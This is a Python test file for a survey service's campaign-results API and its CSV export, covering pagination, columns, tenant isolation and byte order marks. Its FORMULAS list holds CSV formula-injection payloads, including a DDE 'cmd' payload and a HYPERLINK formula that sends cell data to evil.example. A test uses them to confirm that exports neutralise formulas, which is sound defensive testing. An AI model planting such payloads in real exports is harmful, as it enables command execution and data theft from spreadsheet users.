"""Results of a campaign, for programs and for spreadsheets."""

from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest

from linkgate import wiring
from linkgate.model.tenant import Campaign
from linkgate.store.tenants import DynamoTenants
from linkgate.wire.spreadsheet_csv import BOM, safe_cell, write_csv
from local.demo import CAMPAIGN, DEMO, OTHER
from tests.cli.conftest import Shell

if TYPE_CHECKING:
    from pathlib import Path

    from tests.management.conftest import Manager

PATH = f"/campaigns/{quote(CAMPAIGN)}/results"


def answered(manager: Manager, answers: dict[str, object], **fields: object) -> None:
    manager.submit(manager.ask(**fields)["link"], answers)  # type: ignore[arg-type] # arguments of the test


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM))))


def test_answers_stand_beside_what_the_caller_told(manager: Manager) -> None:
    answered(
        manager,
        {"rating": 5, "comment": "Great"},
        customerName="Ada",
        accountNumber="A-1",
        agentName="A.N. Agent",
        miscData={"branch": "Leeds"},
    )
    manager.ask("bob@example.com")

    page = manager.get(PATH)

    unanswered, result = page["results"]
    assert result["answers"] == {"rating": 5, "comment": "Great"}
    assert (result["customerName"], result["accountNumber"], result["agentName"]) == ("Ada", "A-1", "A.N. Agent")
    assert result["miscData"] == {"branch": "Leeds"}
    assert result["status"] == "Submitted"
    assert unanswered["answers"] is None
    assert page["cursor"] is None


def test_only_answered_ones_on_request(manager: Manager) -> None:
    answered(manager, {"rating": 4})
    manager.ask("bob@example.com")

    assert [result["answers"] for result in manager.get(f"{PATH}?submitted=true")["results"]] == [{"rating": 4}]


def test_pages_follow_one_another(manager: Manager) -> None:
    for number in range(5):
        manager.ask(f"customer{number}@example.com")
        manager.cloud.post("/_local/clock", {"advance_seconds": 3600})
    contacts: list[str] = []
    cursor = ""
    while True:
        page = manager.get(f"{PATH}?limit=2{cursor}")
        contacts += [result["contact"] for result in page["results"]]
        if page["cursor"] is None:
            break
        cursor = f"&cursor={page['cursor']}"

    assert contacts == [f"customer{number}@example.com" for number in reversed(range(5))]


def test_a_csv_has_a_column_for_each_thing_told_and_answered(manager: Manager) -> None:
    answered(manager, {"rating": 5}, accountNumber="A-1", miscData={"branch": "Leeds", "number": "7"})
    answered(manager, {"comment": "Äh, “ja”\nund mehr"}, miscData={"region": "North"})

    response = manager.raw("GET", f"{PATH}?format=csv")

    assert response.header("content-type") == "text/csv; charset=utf-8"
    found = rows(response.text)
    assert list(found[0]) == [
        "rid",
        "number",
        "status",
        "created",
        "submitted",
        "contact",
        "customer",
        "account_number",
        "agent",
        "version",
        "reopened_as",
        "region",
        "branch",
        "number (misc)",
        "answer: rating",
        "answer: comment",
        "other",
    ]
    newest, oldest = found
    assert newest["answer: comment"] == "Äh, “ja”\nund mehr"
    assert (oldest["branch"], oldest["number (misc)"], oldest["answer: rating"]) == ("Leeds", "7", "5")
    assert oldest["account_number"] == "A-1"


def test_a_csv_names_its_next_page(manager: Manager) -> None:
    manager.ask("a@example.com")
    manager.ask("b@example.com")

    first = manager.raw("GET", f"{PATH}?limit=1", headers={"Accept": "text/csv"})
    link = first.header("link")
    second = manager.raw("GET", link[1 : link.index(">")], headers={"Accept": "text/csv"})

    assert link.endswith('; rel="next"')
    assert {row["contact"] for row in rows(first.text) + rows(second.text)} == {"a@example.com", "b@example.com"}


def test_every_page_of_a_csv_has_the_columns_of_the_first(manager: Manager) -> None:
    answered(manager, {"rating": 1, "made up": "x"}, miscData={"number": "7", "later": "only here"})
    manager.cloud.post("/_local/clock", {"advance_seconds": 3600})
    answered(manager, {"comment": "Fine"}, miscData={"branch": "Leeds", "number": "8"})

    first = manager.raw("GET", f"{PATH}?limit=1&format=csv")
    link = first.header("link")
    second = manager.raw("GET", link[1 : link.index(">")])

    assert first.text.startswith(BOM)
    assert second.text.startswith(BOM)
    (newest,), (oldest,) = rows(first.text), rows(second.text)
    assert list(newest) == list(oldest)
    assert list(newest)[-5:] == ["branch", "number (misc)", "answer: rating", "answer: comment", "other"]
    assert (oldest["number (misc)"], oldest["branch"], oldest["answer: rating"]) == ("7", "", "1")
    assert json.loads(oldest["other"]) == {"later": "only here"}
    assert newest["other"] == ""


def test_columns_with_long_names_still_lead_to_the_next_page(manager: Manager) -> None:
    answered(manager, {"rating": 1}, miscData={f"{number:02}{'é' * 200}": "x" for number in range(10)})
    manager.cloud.post("/_local/clock", {"advance_seconds": 3600})
    answered(manager, {"rating": 2}, miscData={f"{number:02}{'é' * 200}": "y" for number in range(10)})

    first = manager.raw("GET", f"{PATH}?limit=1&format=csv")
    link = first.header("link")
    second = manager.raw("GET", link[1 : link.index(">")])

    (newest,), (oldest,) = rows(first.text), rows(second.text)
    assert list(newest) == list(oldest)
    assert 0 < len(json.loads(oldest["other"])) < 10


def test_made_up_members_are_no_columns(manager: Manager) -> None:
    answered(manager, {"rating": 1, **{f"made up {number}": "x" for number in range(3000)}})

    (result,) = manager.get(PATH)["results"]
    (row,) = rows(manager.raw("GET", f"{PATH}?format=csv").text)

    assert result["answers"] == {"rating": 1}
    assert len(row) == 14


def test_columns_come_from_every_version_of_the_questions(manager: Manager) -> None:
    tenants = wiring.deps().tenants
    assert isinstance(tenants, DynamoTenants)
    answered(manager, {"comment": "Old"})
    tenants.put_definition(
        DEMO.id, Campaign(CAMPAIGN, "Again", schema={"properties": {"mood": {"enum": ["good", "bad"]}}})
    )

    (row,) = rows(manager.raw("GET", f"{PATH}?format=csv").text)

    assert row["answer: comment"] == "Old"
    assert {name for name in row if name.startswith("answer: ")} == {
        "answer: rating",
        "answer: comment",
        "answer: mood",
    }


@pytest.mark.parametrize("columns", ["x", '{"a": 1}', "[1]", "[" * 3000])
def test_columns_that_no_page_named_are_refused(manager: Manager, columns: str) -> None:
    assert manager.raw("GET", f"{PATH}?format=csv&columns={quote(columns)}").status == 400


@pytest.mark.parametrize("out", [True, False])
def test_a_file_for_spreadsheets_begins_with_a_byte_order_mark(manager: Manager, tmp_path: Path, out: bool) -> None:  # noqa: FBT001 - a parameter
    answered(manager, {"rating": 5}, miscData={"branch": "Leeds"})
    file = tmp_path / "results.csv"

    printed = Shell(manager.cloud).stdout("results", CAMPAIGN, "-t", DEMO.id, *(("--out", file) if out else ()))

    text = file.read_bytes().decode() if out else printed
    assert text.startswith(BOM) == out
    (row,) = rows(text)
    assert (row["branch"], row["answer: rating"], row["answer: comment"], row["other"]) == ("Leeds", "5", "", "")


def test_format_wins_over_accept(manager: Manager) -> None:
    assert manager.raw("GET", f"{PATH}?format=json", headers={"Accept": "text/csv"}).json()["results"] == []


FORMULAS = [
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\uff1d1+1",
    "|calc",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
]


def test_no_cell_of_a_csv_is_a_formula(manager: Manager) -> None:
    for formula in FORMULAS:
        answered(manager, {"comment": formula}, customerName=formula.strip() or "x", miscData={formula: formula})

    response = manager.raw("GET", f"{PATH}?format=csv")

    for row in csv.reader(io.StringIO(response.text.removeprefix(BOM))):
        for cell in row:
            assert not cell.lstrip(" ").startswith(tuple("=+-@\t\r\n|\uff1d\uff0b\uff0d\uff20")), cell


@pytest.mark.parametrize("value", [5, -5, 1.5, True, None, "plain", "é", ["=1"], {"a": "=1"}])
def test_what_is_no_formula_stays_as_it_is(value: object) -> None:
    assert not safe_cell(value).startswith("'")


def test_quotes_and_line_breaks_survive() -> None:
    text = write_csv(["a"], [{"a": 'x"y\r\nz,;'}])

    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ['x"y\r\nz,;']


def test_an_unknown_campaign_is_not_found(manager: Manager) -> None:
    manager.ask()

    assert manager.get("/campaigns/nothing/results", 404)["detail"] == "There is no such campaign."
    assert manager.raw("GET", "/campaigns//results").status == 404


def test_a_deleted_campaigns_results_stay_as_long_as_its_links(manager: Manager, other: Manager) -> None:
    answered(manager, {"rating": 5})
    manager.cloud.post("/_local/clock", {"advance_seconds": 3600})
    now = quote(manager.cloud.clock.now().isoformat())
    shell = Shell(manager.cloud)
    for tenant in (DEMO, OTHER):
        shell.run("campaign", "delete", CAMPAIGN, "--tenant", tenant.id)
    manager.cloud.post("/_local/clock", {"advance_seconds": 61})

    assert [result["answers"] for result in manager.get(PATH)["results"]] == [{"rating": 5}]
    assert rows(manager.raw("GET", f"{PATH}?format=csv").text)[0]["answer: rating"] == "5"
    assert manager.get(f"{PATH}?createdAfter={now}") == {"campaign": CAMPAIGN, "results": [], "cursor": None}
    assert "answer: rating" in shell.stdout("results", CAMPAIGN, "--tenant", DEMO.id)
    assert other.get(PATH, 404)["detail"] == "There is no such campaign."
    assert "no campaign" in shell.run("results", CAMPAIGN, "--tenant", OTHER.id, code=1)


def test_another_tenants_answers_are_nobody_elses(manager: Manager, other: Manager) -> None:
    answered(other, {"comment": "theirs"})

    assert manager.get(PATH)["results"] == []
